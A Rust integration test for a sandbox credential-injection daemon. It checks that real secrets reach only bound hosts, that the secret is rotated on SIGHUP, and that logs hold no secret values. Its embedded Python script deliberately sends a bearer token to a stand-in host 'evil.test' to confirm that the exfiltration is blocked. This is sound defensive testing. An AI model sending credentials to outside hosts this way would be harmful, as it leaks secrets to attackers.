//! Credential injection: the sandbox holds placeholders, sluice holds the
//! secrets and puts them into requests to bound hosts only. Needs root.

mod harness;

use std::{collections::HashMap, io::BufRead, net::SocketAddr};

use harness::{
    dns::TestDns,
    privileged,
    web::{TestCa, WebServer},
    Daemon, TestNet,
};
use sluice::audit::Kind;

const SECRET: &str = "ghp_REALsecretVALUE0123456789abcdef";
const ROTATED: &str = "ghp_ROTATEDsecretVALUE9876543210fedcb";

const PROFILE: &str = r#"
name = "agent"
[[rule]]
name = "web"
action = "allow"
hosts = ["web.test", "evil.test"]
ports = [443, 80]
[[credential]]
secret = "github"
hosts = ["web.test"]
env = "GITHUB_TOKEN"
"#;

#[test]
fn secrets_reach_bound_hosts_only_and_the_sandbox_sees_placeholders() {
    if !privileged() {
        return;
    }
    let net = TestNet::new();
    let ca = TestCa::new();
    let web = WebServer::start(&net, SocketAddr::new(net.v4(2), 443), Some(ca.server_config(&["web.test"], false)));
    let evil_ip = net.add_host(6);
    let evil = WebServer::start(&net, SocketAddr::new(evil_ip, 443), Some(ca.server_config(&["evil.test"], false)));
    let plain_evil = WebServer::start(&net, SocketAddr::new(evil_ip, 80), None);
    let zone = HashMap::from([("web.test".to_owned(), vec![net.v4(2)]), ("evil.test".to_owned(), vec![evil_ip])]);
    let dns = TestDns::start(net.udp_socket(SocketAddr::new(net.v4(2), 53)), zone);
    let daemon = Daemon::start_full(Some(dns.addr), Some(&ca.cert_pem), Some(&format!("github = \"{SECRET}\"\n")));
    let sandbox = daemon.sandbox("agent", PROFILE).with_nameserver(&daemon.dir, net.v4(99));

    let script = format!(
        r#"
import http.client, os, ssl, sys
token = os.environ["GITHUB_TOKEN"]
print("placeholder=" + str(token.startswith("SLUICE_PLACEHOLDER_")), flush=True)
print("environ_has_secret=" + str(b"{SECRET}" in open("/proc/self/environ", "rb").read()), flush=True)
ctx = ssl.create_default_context()
def get(conn, path):
    conn.request("GET", path, headers={{"Authorization": "Bearer " + token}})
    r = conn.getresponse()
    return r.status, r.read().decode()
web = http.client.HTTPSConnection("web.test", timeout=15, context=ctx)
status, body = get(web, "/reflect?key=" + token)
print("first_status=" + str(status), flush=True)
print("first_scrubbed=" + str("{SECRET}" not in body and token in body), flush=True)
sys.stdin.readline()
status, body = get(web, "/reflect")
print("second_status=" + str(status), flush=True)
print("second_scrubbed=" + str("{ROTATED}" not in body and token in body), flush=True)
status, body = get(http.client.HTTPSConnection("evil.test", timeout=15, context=ctx), "/reflect")
print("evil_status=" + str(status), flush=True)
print("evil_rule=" + [l for l in body.splitlines() if l.startswith("rule: ")][0][6:], flush=True)
status, body = get(http.client.HTTPConnection("evil.test", timeout=15), "/reflect")
print("plain_status=" + str(status), flush=True)
"#
    );
    let mut command = sandbox.command("python3");
    command.args(["-c", &script]).stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped());
    let mut child = command.spawn().unwrap();
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut first = Vec::new();
    for _ in 0..4 {
        let mut line = String::new();
        out.read_line(&mut line).unwrap();
        first.push(line.trim().to_owned());
    }
    assert_eq!(first, ["placeholder=True", "environ_has_secret=False", "first_status=200", "first_scrubbed=True"]);

    // Rotate: new value in the file, SIGHUP; the kept connection's next
    // request carries it.
    std::fs::write(daemon.dir.join("secrets"), format!("github = \"{ROTATED}\"\n")).unwrap();
    // SAFETY: signalling the daemon this test started.
    unsafe { libc::kill(daemon.pid() as i32, libc::SIGHUP) };
    daemon.wait_decisions("secrets reloaded", |d| d.iter().any(|d| d.rule == "secrets-reloaded"));
    std::io::Write::write_all(child.stdin.as_mut().unwrap(), b"go\n").unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut out, &mut rest).unwrap();
    assert!(child.wait().unwrap().success(), "{rest}");
    for expected in [
        "second_status=200",
        "second_scrubbed=True",
        "evil_status=403",
        "evil_rule=credential-exfiltration",
        "plain_status=403",
    ] {
        assert!(rest.contains(expected), "{expected} missing in:\n{rest}");
    }

    // What the upstreams really got.
    let seen = web.seen();
    let auth = |i: usize| seen[i].headers.iter().find(|(k, _)| k == "authorization").map(|(_, v)| v.clone());
    assert_eq!(auth(0).as_deref(), Some(format!("Bearer {SECRET}").as_str()));
    assert_eq!(auth(1).as_deref(), Some(format!("Bearer {ROTATED}").as_str()), "the rotated secret was not used");
    assert!(evil.seen().is_empty() && plain_evil.seen().is_empty(), "a placeholder reached an unbound host");

    // Decisions name the secret, never its value; no log holds a value.
    let decisions = daemon.decisions();
    assert!(decisions.iter().any(|d| d.kind == Kind::Request && d.credentials == ["github"]));
    for path in [daemon.decision_log(), daemon.dir.join("daemon.log")] {
        let text = std::fs::read_to_string(&path).unwrap_or_default();
        assert!(!text.contains(SECRET) && !text.contains(ROTATED), "a secret value is in {}", path.display());
    }
    let state = std::fs::read_to_string(sluice::daemon::runtime_dir(&daemon.instance).join("sandboxes.json")).unwrap();
    assert!(!state.contains(SECRET) && state.contains("SLUICE_PLACEHOLDER_"));
}
